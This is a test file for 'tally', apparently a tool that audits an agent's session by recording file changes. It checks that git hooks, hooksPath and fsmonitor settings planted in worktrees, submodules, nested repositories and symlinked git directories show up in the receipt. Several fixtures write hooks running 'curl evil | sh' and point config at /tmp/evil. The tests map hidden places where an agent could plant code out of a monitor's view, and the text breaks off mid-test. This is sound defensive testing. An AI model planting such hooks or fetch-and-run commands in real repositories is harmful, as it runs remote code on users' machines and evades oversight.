/**
 * git's own files of a work tree whose `.git` is a file (a linked worktree, a submodule) or a
 * link, and of the repositories nested in a project: the config, hooks and info git reads for them lie outside the
 * `.git` under the tree's top, and a submodule's git directory under `.git/modules/` lies there
 * when no `.git` leads to it. Each test runs real sessions through `tally` in real repositories
 * (`git worktree add`, `git submodule add`, `git submodule deinit`), plants what an agent would,
 * and reads the receipt's rows and `tally verify`.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { join, relative } from 'node:path';
import { describe, it } from 'node:test';
import { BASELINE_MAP_BYTES } from '../../src/core/json-budget.js';
import { jsonOut, makeProject, type Project } from '../cli/tally-process.js';
import { git, packageLines, packageReceipt } from './fixture.js';

/** One session in `cwd` around `act`: the receipt's rows, the package verified by `tally verify`. */
async function session(p: Project, cwd: string, act: () => void): Promise<{ rows: string[][]; pkg: Buffer }> {
  assert.equal((await p.tally(['init'], { cwd })).code, 0);
  const started = await p.tally(['session', 'start', '--json'], { cwd });
  assert.equal(started.code, 0, started.stderr);
  act();
  const closed = await p.tally(['session', 'close', '--json'], { cwd });
  assert.equal(closed.code, 0, closed.stderr);
  const path = String(jsonOut(closed).package);
  const verified = await p.tally(['verify', path, '--json'], { cwd });
  assert.equal(verified.code, 0, verified.stdout);
  const pkg = readFileSync(path);
  const rows = packageReceipt(pkg)
    .files_written.filter((row) => !row.path.startsWith('.tally/'))
    .map((row) => [row.path, row.operation]);
  return { rows, pkg };
}

/** `dev.tally.changes[path].location` of the reconcile pass's row for `path`. */
function locationOf(pkg: Buffer, path: string): unknown {
  for (const line of packageLines(pkg).slice(1, -1)) {
    const envelope = JSON.parse(line.toString('utf8')) as { payload: string };
    const record = JSON.parse(Buffer.from(envelope.payload, 'base64').toString('utf8')) as {
      event: { type: string; extensions?: Record<string, Record<string, { location?: string }>> };
    };
    const facts = record.event.extensions?.['dev.tally.changes']?.[path];
    if (record.event.type === 'file.changed' && facts !== undefined) return facts.location;
  }
  return undefined;
}

/** The baseline the package's start record holds. */
function baselineOf(pkg: Buffer): { git_dirs?: Record<string, Record<string, string>> } {
  const envelope = JSON.parse(packageLines(pkg)[1]!.toString('utf8')) as { payload: string };
  const record = JSON.parse(Buffer.from(envelope.payload, 'base64').toString('utf8'));
  return record.event.extensions['dev.tally.workspace'].baseline;
}

/** A repository of one commit at `dir`. */
function repository(dir: string): void {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'lib.txt'), 'lib\n');
  git(dir, 'init', '-q');
  git(dir, 'add', '.');
  git(dir, 'commit', '-qm', 'lib');
}

/** A project with a linked worktree `wt` beside it, the main repository's git directory and the worktree's own. */
function withWorktree(prefix: string): { p: Project; wt: string; common: string; own: string } {
  const p = makeProject(prefix);
  const wt = join(p.dir, 'wt');
  git(p.root, 'worktree', 'add', '-q', wt);
  const common = join(p.root, '.git');
  return { p, wt, common, own: join(common, 'worktrees', 'wt') };
}

/** A hook that leaves `ran` in `dir` when git runs it: the oracle that git takes the hook. */
function markingHook(dir: string): string {
  return `#!/bin/sh\necho planted >> '${join(dir, 'ran')}'\n`;
}

/** `lib` added as a submodule at `path` of the repository at `cwd`, and committed. */
function addSubmodule(cwd: string, lib: string, path: string): void {
  git(cwd, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', lib, path);
  git(cwd, 'commit', '-qm', 'submodule');
}

/** The same, then deinit'd: its git directory stays. */
function deinitSubmodule(cwd: string, lib: string, path: string): void {
  addSubmodule(cwd, lib, path);
  git(cwd, 'submodule', 'deinit', '-q', '-f', path);
  assert.equal(existsSync(join(cwd, path, '.git')), false);
}

describe("git's own files where the tree's .git is a file", () => {
  it('a linked worktree: the common config and hooks, its config.worktree and its .git file are rows', async () => {
    const { p, wt, common, own } = withWorktree('tally-git-dirs-worktree-');
    const { rows, pkg } = await session(p, wt, () => {
      writeFileSync(join(common, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
      appendFileSync(join(common, 'config'), '[core]\n\thooksPath = /tmp/evil\n');
      writeFileSync(join(own, 'config.worktree'), '[core]\n\tfsmonitor = /tmp/evil\n');
      // The same git directory, named another way: git still finds it; the file changed.
      writeFileSync(join(wt, '.git'), `gitdir: ${relative(wt, own)}\n`);
    });
    assert.deepEqual(rows, [
      ['.git', 'modified'],
      ['.git/config', 'modified'],
      ['.git/config.worktree', 'created'],
      ['.git/hooks/pre-commit', 'created'],
    ]);
    assert.equal(locationOf(pkg, '.git/hooks/pre-commit'), join(common, 'hooks', 'pre-commit'));
    assert.equal(locationOf(pkg, '.git/config.worktree'), join(own, 'config.worktree'));
  });

  it('a linked worktree whose .git file is pointed elsewhere: the places of the start are compared', async () => {
    const { p, wt, common } = withWorktree('tally-git-dirs-repointed-');
    const other = join(p.dir, 'other');
    repository(other);
    const { rows } = await session(p, wt, () => {
      writeFileSync(join(common, 'hooks', 'post-checkout'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
      writeFileSync(join(wt, '.git'), `gitdir: ${join(other, '.git')}\n`);
    });
    // git now runs with the other repository's config, which no row watches: its settings are a row.
    assert.deepEqual(
      rows.filter(([path]) => path!.startsWith('.git')),
      [
        ['.git', 'modified'],
        ['.git/config-in-effect', 'modified'],
        ['.git/hooks/post-checkout', 'created'],
      ],
    );
  });

  it("a submodule: the hooks in the superproject's .git/modules are rows", async () => {
    const p = makeProject('tally-git-dirs-submodule-');
    const lib = join(p.dir, 'lib');
    repository(lib);
    addSubmodule(p.root, lib, 'sub/lib');
    const root = join(p.root, 'sub', 'lib');
    const dir = git(root, 'rev-parse', '--absolute-git-dir').trim();
    assert.equal(dir, join(p.root, '.git', 'modules', 'sub', 'lib'));
    const { rows, pkg } = await session(p, root, () => {
      writeFileSync(join(dir, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
      writeFileSync(join(dir, 'info', 'exclude'), 'hidden\n');
    });
    assert.deepEqual(rows, [
      ['.git/hooks/pre-commit', 'created'],
      ['.git/info/exclude', 'modified'],
    ]);
    assert.equal(locationOf(pkg, '.git/hooks/pre-commit'), join(dir, 'hooks', 'pre-commit'));
  });

  it("a linked worktree whose git directory is reached through a link: its commondir's `..` leads where git takes it", async () => {
    const { p, wt, common, own } = withWorktree('tally-git-dirs-commondir-link-');
    assert.equal(readFileSync(join(own, 'commondir'), 'utf8'), '../..\n');
    // `<link>/../..` read as written is the folder holding `side`; git resolves `..` past the link,
    // from where the link leads, to the main repository.
    const link = join(p.dir, 'side', 'wt');
    mkdirSync(join(p.dir, 'side'));
    symlinkSync(own, link);
    writeFileSync(join(wt, '.git'), `gitdir: ${link}\n`);
    assert.equal(git(wt, 'rev-parse', '--git-path', 'hooks').trim(), join(common, 'hooks'));
    const ran = join(p.dir, 'ran');
    const { rows, pkg } = await session(p, wt, () => {
      writeFileSync(join(common, 'hooks', 'pre-commit'), `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 });
    });
    assert.deepEqual(rows, [['.git/hooks/pre-commit', 'created']]);
    assert.equal(locationOf(pkg, '.git/hooks/pre-commit'), join(common, 'hooks', 'pre-commit'));
    // Recorded as git puts it together, resolved at each pass.
    assert.deepEqual(baselineOf(pkg).git_dirs?.['.git'], { dir: link, common: `${link}/../..` });
    git(wt, 'hook', 'run', 'pre-commit');
    assert.ok(existsSync(ran), 'git runs the hook the receipt names');
  });
});

describe("git's own files of repositories nested in the project", () => {
  it('a nested clone and a submodule: their config, hooks and .git file are rows; a new repository is one', async () => {
    const p = makeProject('tally-git-dirs-nested-');
    repository(join(p.root, 'sub', 'b'));
    const lib = join(p.dir, 'lib');
    repository(lib);
    addSubmodule(p.root, lib, 'sub/c');
    const c = join(p.root, '.git', 'modules', 'sub', 'c');
    const { rows, pkg } = await session(p, p.root, () => {
      writeFileSync(join(p.root, 'sub', 'b', '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
      appendFileSync(join(p.root, 'sub', 'b', '.git', 'config'), '[core]\n\thooksPath = /tmp/evil\n');
      writeFileSync(join(c, 'hooks', 'post-checkout'), '#!/bin/sh\ncurl evil\n');
      writeFileSync(join(p.root, 'sub', 'c', '.git'), `gitdir: ${c}\n`);
      // A repository made during the session: its appearing is the row.
      repository(join(p.root, 'new'));
    });
    assert.deepEqual(rows, [
      ['new/.git', 'created'],
      ['new/lib.txt', 'created'],
      ['sub/b/.git/config', 'modified'],
      ['sub/b/.git/hooks/pre-commit', 'created'],
      ['sub/c/.git', 'modified'],
      ['sub/c/.git/hooks/post-checkout', 'created'],
    ]);
    assert.equal(locationOf(pkg, 'sub/c/.git/hooks/post-checkout'), join(c, 'hooks', 'post-checkout'));
    assert.equal(locationOf(pkg, 'sub/b/.git/hooks/pre-commit'), undefined);
  });

  it("past the nested repositories listed, their files are counted, and git's own files are still rows", async () => {
    const p = makeProject('tally-git-dirs-many-');
    // 101 repositories in breadth-first order: `r000`…`r099` are listed, `r100` is not.
    for (let i = 0; i <= 100; i++) {
      const dir = join(p.root, `r${String(i).padStart(3, '0')}`);
      mkdirSync(dir);
      git(dir, 'init', '-q');
    }
    // r100's hooks are moved by its own config before the session (an earlier session's row).
    git(join(p.root, 'r100'), 'config', 'core.hooksPath', '../r100-hooks');
    mkdirSync(join(p.root, 'r100-hooks'));
    const hook = '#!/bin/sh\necho planted > "$(git rev-parse --show-toplevel)/ran"\n';
    const { rows, pkg } = await session(p, p.root, () => {
      writeFileSync(join(p.root, 'r007', '.git', 'hooks', 'pre-commit'), hook, { mode: 0o755 });
      writeFileSync(join(p.root, 'r100', '.git', 'hooks', 'post-checkout'), hook, { mode: 0o755 });
      writeFileSync(join(p.root, 'r100', '.git', 'info', 'exclude'), '*\n');
      writeFileSync(join(p.root, 'r100-hooks', 'pre-commit'), hook, { mode: 0o755 });
      // A file of r100's own tree lies past the start's bound: counted, not compared.
      writeFileSync(join(p.root, 'r100', 'past.txt'), 'past\n');
    });
    assert.deepEqual(rows, [
      ['r007/.git/hooks/pre-commit', 'created'],
      ['r100-hooks/pre-commit', 'created'],
      ['r100/.git/hooks-path/pre-commit', 'created'],
      ['r100/.git/hooks/post-checkout', 'created'],
      ['r100/.git/info/exclude', 'modified'],
    ]);
    // Where git runs it, as git names it (the setting is relative to r100's work tree).
    assert.equal(
      locationOf(pkg, 'r100/.git/hooks-path/pre-commit'),
      `${p.root}/r100/../r100-hooks/pre-commit`,
    );
    // The oracle: git runs the planted hook in the repository the listing did not list.
    git(join(p.root, 'r100'), 'hook', 'run', 'pre-commit');
    assert.equal(readFileSync(join(p.root, 'r100', 'ran'), 'utf8'), 'planted\n');
    const summary = packageLines(pkg)
      .slice(1, -1)
      .map((line) =>
        JSON.parse(Buffer.from(JSON.parse(line.toString('utf8')).payload, 'base64').toString('utf8')),
      )
      .find((record) => record.event.type === 'tally.reconcile.summary').event.extensions[
      'dev.tally.reconcile'
    ];
    assert.ok(summary.skipped >= 1, JSON.stringify(summary));
  });
});

describe('the git directories of submodules under .git/modules', () => {
  it("a submodule deinit'd before the session: a hook and an fsmonitor planted in its git directory are rows, and git runs both", async () => {
    const p = makeProject('tally-git-dirs-deinit-');
    const lib = join(p.dir, 'lib');
    repository(lib);
    deinitSubmodule(p.root, lib, 'lib');
    const dir = join(p.root, '.git', 'modules', 'lib');
    assert.ok(existsSync(join(dir, 'HEAD')));
    // A folder whose HEAD is a FIFO (git would wait on it): Tally only looks at what it is, and lists
    // the folder's files all the same.
    mkdirSync(join(p.root, '.git', 'modules', 'stray', 'hooks'), { recursive: true });
    execFileSync('mkfifo', [join(p.root, '.git', 'modules', 'stray', 'HEAD')]);
    const monitor = join(p.dir, 'monitor.sh');
    writeFileSync(monitor, `#!/bin/sh\necho monitor >> '${join(p.dir, 'monitored')}'\nexit 1\n`, {
      mode: 0o755,
    });
    const { rows, pkg } = await session(p, p.root, () => {
      writeFileSync(join(dir, 'hooks', 'post-checkout'), markingHook(p.dir), { mode: 0o755 });
      appendFileSync(join(dir, 'config'), `[core]\n\tfsmonitor = ${monitor}\n`);
      writeFileSync(join(p.root, '.git', 'modules', 'stray', 'hooks', 'post-checkout'), markingHook(p.dir));
    });
    assert.deepEqual(rows, [
      ['.git/modules/lib/config', 'modified'],
      ['.git/modules/lib/hooks/post-checkout', 'created'],
      ['.git/modules/stray/hooks/post-checkout', 'created'],
    ]);
    // The rows are the files themselves: the tree's own .git holds them.
    assert.equal(locationOf(pkg, '.git/modules/lib/hooks/post-checkout'), undefined);
    // The oracle: the next update runs the planted hook and the planted monitor.
    git(p.root, '-c', 'protocol.file.allow=always', 'submodule', 'update', '-q', '--init');
    assert.equal(readFileSync(join(p.dir, 'ran'), 'utf8'), 'planted\n');
    assert.ok(existsSync(join(p.dir, 'monitored')));
  });

  it("an initialised submodule: a hook in its git directory is one row, under its own .git; a submodule of it deinit'd is watched there too", async () => {
    const p = makeProject('tally-git-dirs-nested-modules-');
    const lib = join(p.dir, 'lib');
    const inner = join(p.dir, 'inner');
    repository(inner);
    repository(lib);
    addSubmodule(lib, inner, 'd');
    addSubmodule(p.root, lib, 'sub/c');
    const sub = join(p.root, 'sub', 'c');
    git(sub, '-c', 'protocol.file.allow=always', 'submodule', 'update', '-q', '--init');
    git(sub, 'submodule', 'deinit', '-q', '-f', 'd');
    // Real nested submodules: sub/c's git directory holds d's, under its own modules/.
    const c = join(p.root, '.git', 'modules', 'sub', 'c');
    const d = join(c, 'modules', 'd');
    assert.ok(existsSync(join(d, 'HEAD')));
    const { rows, pkg } = await session(p, p.root, () => {
      writeFileSync(join(c, 'hooks', 'post-checkout'), '#!/bin/sh\ncurl evil\n', { mode: 0o755 });
      writeFileSync(join(d, 'hooks', 'post-checkout'), markingHook(p.dir), { mode: 0o755 });
    });
    // sub/c's git directory is watched through sub/c/.git: one change, one row, none under .git/modules/.
    assert.deepEqual(rows, [
      ['sub/c/.git/hooks/post-checkout', 'created'],
      ['sub/c/.git/modules/d/hooks/post-checkout', 'created'],
    ]);
    assert.equal(
      locationOf(pkg, 'sub/c/.git/modules/d/hooks/post-checkout'),
      join(d, 'hooks', 'post-checkout'),
    );
    git(sub, '-c', 'protocol.file.allow=always', 'submodule', 'update', '-q', '--init');
    assert.equal(readFileSync(join(p.dir, 'ran'), 'utf8'), 'planted\n');
  });

  it("a submodule deinit'd during the session: its .git is a row, and a hook planted in its git directory is one", async () => {
    const p = makeProject('tally-git-dirs-deinit-during-');
    const lib = join(p.dir, 'lib');
    repository(lib);
    addSubmodule(p.root, lib, 'sub/c');
    const c = join(p.root, '.git', 'modules', 'sub', 'c');
    const { rows } = await session(p, p.root, () => {
      git(p.root, 'submodule', 'deinit', '-q', '-f', 'sub/c');
      writeFileSync(join(c, 'hooks', 'post-checkout'), markingHook(p.dir), { mode: 0o755 });
    });
    // Watched through sub/c/.git at the start and under .git/modules/ at the close: each file of its
    // git directory is new by that name.
    assert.deepEqual(
      rows.filter(([path]) => !path!.startsWith('.git/modules/sub/c/hooks/') || !path!.endsWith('.sample')),
      [
        ['.git/config', 'modified'],
        ['.git/modules/sub/c/config', 'created'],
        ['.git/modules/sub/c/hooks/post-checkout', 'created'],
        ['.git/modules/sub/c/info/exclude', 'created'],
        ['sub/c/.git', 'deleted'],
        ['sub/c/lib.txt', 'deleted'],
      ],
    );
    git(p.root, '-c', 'protocol.file.allow=always', 'submodule', 'update', '-q', '--init');
    assert.equal(readFileSync(join(p.dir, 'ran'), 'utf8'), 'planted\n');
  });

  it("a submodule named libs/x of a linked worktree, deinit'd: the worktree's own modules are watched, a HEAD planted in libs/ hides nothing", async () => {
    const { p, wt, own } = withWorktree('tally-git-dirs-worktree-modules-');
    const lib = join(p.dir, 'lib');
    repository(lib);
    deinitSubmodule(wt, lib, 'libs/x');
    // A linked worktree's submodules are its own: under its git directory, not the common one.
    const x = join(own, 'modules', 'libs', 'x');
    assert.ok(existsSync(join(x, 'HEAD')));
    // A HEAD alone does not make libs/ a git directory to git, which still takes libs/x.
    writeFileSync(join(own, 'modules', 'libs', 'HEAD'), 'ref: refs/heads/main\n');
    const { rows, pkg } = await session(p, wt, () => {
      writeFileSync(join(x, 'hooks', 'post-checkout'), markingHook(p.dir), { mode: 0o755 });
    });
    assert.deepEqual(rows, [['.git/modules/libs/x/hooks/post-checkout', 'created']]);
    assert.equal(
      locationOf(pkg, '.git/modules/libs/x/hooks/post-checkout'),
      join(x, 'hooks', 'post-checkout'),
    );
    git(wt, '-c', 'protocol.file.allow=always', 'submodule', 'update', '-q', '--init');
    assert.equal(readFileSync(join(p.dir, 'ran'), 'utf8'), 'planted\n');
  });
});

/** A repository of one commit at `worktree` whose `.git` is a link to its git directory, moved to `gitdir`. */
function linkedRepository(worktree: string, gitdir: string | Buffer): void {
  repository(worktree);
  renameSync(join(worktree, '.git'), gitdir);
  symlinkSync(gitdir, join(worktree, '.git'));
}

describe("git's own files where a .git link leads, or a .git file names a path that is not UTF-8", () => {
  it('nested repositories whose .git is a link: hooks planted where it leads are rows, a link retargeted or made is one', async () => {
    const p = makeProject('tally-git-dirs-nested-link-');
    const b = join(p.dir, 'b.git');
    const c = join(p.dir, 'c.git');
    linkedRepository(join(p.root, 'sub', 'b'), b);
    linkedRepository(join(p.root, 'sub', 'c'), c);
    const other = join(p.dir, 'other');
    repository(other);
    mkdirSync(join(p.root, 'sub', 'e'));
    writeFileSync(join(p.root, 'sub', 'e', 'e.txt'), 'e\n');
    const { rows, pkg } = await session(p, p.root, () => {
      writeFileSync(join(b, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
      // A folder made a repository by a link: its appearing is the row.
      symlinkSync(join(other, '.git'), join(p.root, 'sub', 'e', '.git'));
      // Retargeted: the place the start found is still compared, and the link is a row.
      writeFileSync(join(c, 'hooks', 'post-checkout'), '#!/bin/sh\ncurl evil\n');
      unlinkSync(join(p.root, 'sub', 'c', '.git'));
      symlinkSync(join(other, '.git'), join(p.root, 'sub', 'c', '.git'));
    });
    // sub/c's git now runs with the config where its link leads now, which no row watches.
    assert.deepEqual(rows, [
      ['sub/b/.git/hooks/pre-commit', 'created'],
      ['sub/c/.git', 'modified'],
      ['sub/c/.git/config-in-effect', 'modified'],
      ['sub/c/.git/hooks/post-checkout', 'created'],
      ['sub/e/.git', 'created'],
    ]);
    assert.equal(locationOf(pkg, 'sub/b/.git/hooks/pre-commit'), join(b, 'hooks', 'pre-commit'));
    assert.deepEqual(baselineOf(pkg).git_dirs?.['sub/b/.git'], { dir: b, common: b });
  });

  it("the tree's .git a link: the session starts with a baseline and a hook planted where it leads is a row", async () => {
    const p = makeProject('tally-git-dirs-top-link-');
    const dir = join(p.dir, 'repo.git');
    renameSync(join(p.root, '.git'), dir);
    symlinkSync(dir, join(p.root, '.git'));
    const { rows, pkg } = await session(p, p.root, () => {
      writeFileSync(join(dir, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
    });
    assert.deepEqual(rows, [['.git/hooks/pre-commit', 'created']]);
    assert.equal(locationOf(pkg, '.git/hooks/pre-commit'), join(dir, 'hooks', 'pre-commit'));
  });

  it('a .git link through a link outside the tree: the link retargeted there, a hook where git now looks is a row', async () => {
    const p = makeProject('tally-git-dirs-link-chain-');
    const first = join(p.dir, 'first.git');
    const second = join(p.dir, 'second.git');
    const hop = join(p.dir, 'hop');
    const moved = (worktree: string, gitdir: string) => {
      repository(worktree);
      renameSync(join(worktree, '.git'), gitdir);
      cpSync(gitdir, `${gitdir}.2`, { recursive: true });
    };
    moved(join(p.root, 'sub', 'b'), join(p.dir, 'b.git'));
    symlinkSync(join(p.dir, 'b.git'), join(p.dir, 'b-hop'));
    symlinkSync(join(p.dir, 'b-hop'), join(p.root, 'sub', 'b', '.git'));
    renameSync(join(p.root, '.git'), first);
    cpSync(first, second, { recursive: true });
    symlinkSync(first, hop);
    symlinkSync(hop, join(p.root, '.git'));
    const { rows } = await session(p, p.root, () => {
      // Nothing in the tree changes: git now reads the hooks where the links outside it lead.
      writeFileSync(join(second, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
      unlinkSync(hop);
      symlinkSync(second, hop);
      writeFileSync(join(p.dir, 'b.git.2', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
      unlinkSync(join(p.dir, 'b-hop'));
      symlinkSync(join(p.dir, 'b.git.2'), join(p.dir, 'b-hop'));
    });
    assert.deepEqual(rows, [
      ['.git/hooks/pre-commit', 'created'],
      ['sub/b/.git/hooks/pre-commit', 'created'],
    ]);
  });

  it('nested repositories whose git directory is named past a link: `..` after it leads where git takes it', async () => {
    const p = makeProject('tally-git-dirs-dotdot-link-');
    // sub/d's .git file names `<hop>/../d.git`, relative to sub/d: read as written, a d.git beside
    // hop; git takes the parent of where hop leads.
    const d = join(p.root, 'sub', 'd');
    const real = join(p.dir, 'real');
    const hop = join(p.dir, 'hop');
    repository(d);
    mkdirSync(join(real, 'deep'), { recursive: true });
    renameSync(join(d, '.git'), join(real, 'd.git'));
    symlinkSync(join(real, 'deep'), hop);
    writeFileSync(join(d, '.git'), `gitdir: ${relative(d, hop)}/../d.git\n`);
    assert.equal(git(d, 'rev-parse', '--git-path', 'hooks').trim(), join(real, 'd.git', 'hooks'));
    // sub/w, a worktree of lib, has a .git link to a link to its git directory, whose commondir is `../..`.
    const lib = join(p.dir, 'lib');
    const w = join(p.root, 'sub', 'w');
    repository(lib);
    git(lib, 'worktree', 'add', '-q', w);
    const side = join(p.dir, 'side');
    symlinkSync(join(lib, '.git', 'worktrees', 'w'), side);
    unlinkSync(join(w, '.git'));
    symlinkSync(side, join(w, '.git'));
    assert.equal(git(w, 'rev-parse', '--git-path', 'hooks').trim(), join(lib, '.git', 'hooks'));
    const { rows } = await session(p, p.root, () => {
      writeFileSync(join(real, 'd.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
      writeFileSync(join(lib, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
    });
    assert.deepEqual(rows, [
      ['sub/d/.git/hooks/pre-commit', 'created'],
      ['sub/w/.git/hooks/pre-commit', 'created'],
    ]);
  });

  it('a .git file read as git reads it: blanks at its end are part of the path', async () => {
    const p = makeProject('tally-git-dirs-gitfile-bytes-');
    const named = (name: string, dir: string, file: Buffer) => {
      const worktree = join(p.root, 'sub', name);
      repository(worktree);
      renameSync(join(worktree, '.git'), dir);
      writeFileSync(join(worktree, '.git'), file);
      assert.equal(git(worktree, 'status', '--porcelain'), ''); // git takes it
    };
    const spaced = join(p.dir, 'd.git ');
    named('d', spaced, Buffer.from(`gitdir: ${spaced}\n`));
    const { rows } = await session(p, p.root, () => {
      writeFileSync(join(spaced, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
    });
    assert.deepEqual(rows, [['sub/d/.git/hooks/pre-commit', 'created']]);
  });

  it('a .git file larger than Tally reads (a path and 70,000 line ends, which git takes): the start says so and the pass fails', async () => {
    const p = makeProject('tally-git-dirs-gitfile-large-');
    const worktree = join(p.root, 'sub', 'l');
    const dir = join(p.dir, 'l.git');
    repository(worktree);
    renameSync(join(worktree, '.git'), dir);
    writeFileSync(join(worktree, '.git'), `gitdir: ${dir}${'\n'.repeat(70_000)}`);
    assert.equal(git(worktree, 'status', '--porcelain'), ''); // git takes it
    const cwd = p.root;
    assert.equal((await p.tally(['init'], { cwd })).code, 0);
    assert.equal((await p.tally(['session', 'start'], { cwd })).code, 0);
    writeFileSync(join(dir, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
    const closed = await p.tally(['session', 'close', '--json'], { cwd });
    assert.equal(closed.code, 0, closed.stderr);
    const verified = await p.tally(['verify', String(jsonOut(closed).package), '--json'], { cwd });
    assert.equal(verified.code, 1, verified.stdout);
    const check = (
      jsonOut(verified) as { checks: Array<{ check: string; code: string; detail: unknown }> }
    ).checks.find((c) => c.check === 'workspace_reconciled')!;
    assert.equal(check.code, 'reconcile-failed');
    assert.match(JSON.stringify(check.detail), /sub\/l\/\.git is larger than/);
  });

  it('a .git file naming a git directory whose path is not UTF-8: compared there, its bytes recorded', async () => {
    const p = makeProject('tally-git-dirs-not-utf8-');
    const folder = Buffer.concat([Buffer.from(join(p.dir, 'x')), Buffer.from([0xff])]);
    const dir = Buffer.concat([folder, Buffer.from('/d.git')]);
    const d = join(p.root, 'sub', 'd');
    repository(d);
    mkdirSync(folder);
    renameSync(join(d, '.git'), dir);
    writeFileSync(join(d, '.git'), Buffer.concat([Buffer.from('gitdir: '), dir, Buffer.from('\n')]));
    assert.equal(git(d, 'status', '--porcelain'), ''); // git takes the bytes as they are
    const { rows, pkg } = await session(p, p.root, () => {
      writeFileSync(Buffer.concat([dir, Buffer.from('/hooks/pre-commit')]), '#!/bin/sh\ncurl evil\n');
    });
    assert.deepEqual(rows, [['sub/d/.git/hooks/pre-commit', 'created']]);
    const recorded = baselineOf(pkg).git_dirs?.['sub/d/.git'];
    assert.deepEqual(Buffer.from(recorded?.dir_b64 ?? '', 'base64'), dir);
    assert.deepEqual(Buffer.from(recorded?.common_b64 ?? '', 'base64'), dir);
    assert.equal(recorded?.dir, dir.toString('utf8'));
  });
});

describe("git's own folders, bounded", () => {
  it('a hooks folder made a link to a folder of more entries than a pass walks: unreadable, not a row a file', async () => {
    const p = makeProject('tally-git-dirs-huge-hooks-');
    // A tree of git's own the agent points the hooks at: every file of /usr would otherwise be a row.
    const big = join(p.dir, 'big');
    for (let d = 0; d < 11; d++) {
      mkdirSync(join(big, `d${d}`), { recursive: true });
      for (let f = 0; f < 1000; f++) writeFileSync(join(big, `d${d}`, `f${f}`), '');
    }
    assert.equal((await p.tally(['init'])).code, 0);
    assert.equal((await p.tally(['session', 'start', '--json'])).code, 0);
    const hooks = join(p.root, '.git', 'hooks');
    rmSync(hooks, { recursive: true });
    symlinkSync(big, hooks);
    const closed = await p.tally(['session', 'close', '--json']);
    assert.equal(closed.code, 0, closed.stderr);
    const path = String(jsonOut(closed).package);
    const pkg = readFileSync(path);
    const rows = packageReceipt(pkg).files_written.filter((row) => !row.path.startsWith('.tally/'));
    // The start's sample hooks are gone where git reads them; none of the 11,000 files is a row.
    assert.ok(
      rows.every((row) => row.operation === 'deleted' && row.path.startsWith('.git/hooks/')),
      JSON.stringify(rows.slice(0, 5)),
    );
    assert.ok(rows.length < 100, String(rows.length));
    const verified = await p.tally(['verify', path, '--json']);
    const checks = jsonOut(verified).checks as { check: string; ok: boolean; code: string }[];
    const reconciled = checks.find((c) => c.check === 'workspace_reconciled');
    assert.deepEqual([reconciled?.ok, reconciled?.code], [false, 'unreadable']);
    assert.match(JSON.stringify(reconciled), /\.git\/hooks.*too-many/);
  });

  it("a hundred nested repositories whose commondir is 64 KiB of control characters: their places take the baseline's share, past it they count as cut", async () => {
    const p = makeProject('tally-git-dirs-places-share-');
    // A folder name of 255 control characters (six bytes each in JSON) and back: git resolves the
    // commondir to the git directory itself; the start records it as written, 380 KB of JSON.
    const name = '\x01'.repeat(255);
    for (let i = 0; i < 100; i++) {
      const folder = join(p.root, `n${String(i).padStart(2, '0')}`);
      const dir = join(folder, '.realgit');
      for (const sub of ['objects', 'refs/heads', name]) mkdirSync(join(dir, sub), { recursive: true });
      writeFileSync(join(dir, 'HEAD'), 'ref: refs/heads/main\n');
      writeFileSync(join(dir, 'config'), '[core]\n\trepositoryformatversion = 0\n\tbare = false\n');
      writeFileSync(join(dir, 'commondir'), `${`${name}/../`.repeat(250)}.\n`);
      writeFileSync(join(folder, '.git'), 'gitdir: .realgit\n');
      writeFileSync(join(folder, 'f'), 'x\n');
    }
    // git takes each for a repository of its own, whose common directory is its git directory.
    assert.equal(
      git(join(p.root, 'n99'), 'rev-parse', '--git-common-dir').trim(),
      join(p.root, 'n99', '.realgit'),
    );
    assert.equal((await p.tally(['init'])).code, 0);
    assert.equal((await p.tally(['session', 'start', '--json'])).code, 0);
    const closed = await p.tally(['session', 'close', '--json']);
    assert.equal(closed.code, 0, closed.stderr);
    const path = String(jsonOut(closed).package);
    const pkg = readFileSync(path);
    const baseline = baselineOf(pkg) as { git_dirs?: object; git_state_cut?: number };
    const kept = Object.keys(baseline.git_dirs ?? {}).length;
    assert.ok(kept > 0 && kept < 100, String(kept));
    assert.ok(JSON.stringify(baseline.git_dirs).length <= BASELINE_MAP_BYTES);
    assert.ok((baseline.git_state_cut ?? 0) >= 100 - kept, String(baseline.git_state_cut));
    const verified = await p.tally(['verify', path, '--json']);
    const checks = jsonOut(verified).checks as { check: string; ok: boolean; code: string }[];
    const reconciled = checks.find((c) => c.check === 'workspace_reconciled');
    assert.deepEqual([reconciled?.ok, reconciled?.code], [false, 'baseline-cut']);
  });
});

describe('the hooks folder git runs, wherever core.hooksPath puts it', () => {
  /** A hook that leaves `ran` behind when git runs it. */
  const hook = (ran: string) => `#!/bin/sh\ntouch '${ran}'\n`;

  /**
   * git runs the planted pre-commit (the oracle), and the receipt has it as a row of the folder
   * core.hooksPath names, where it lies; the common directory's hooks are no rows.
   */
  function assertRan(p: Project, rows: string[][], pkg: Buffer, location: string): void {
    const ran = join(p.dir, 'ran');
    git(p.root, 'hook', 'run', 'pre-commit');
    assert.ok(existsSync(ran), 'git ran the planted hook');
    assert.deepEqual(
      rows.filter(([path]) => path!.startsWith('.git/hooks')),
      [['.git/hooks-path/pre-commit', 'created']],
    );
    assert.equal(locationOf(pkg, '.git/hooks-path/pre-commit'), location);
  }

  it('a folder outside the tree, set before the session: a hook planted there is a row', async () => {
    const p = makeProject('tally-hooks-path-outside-');
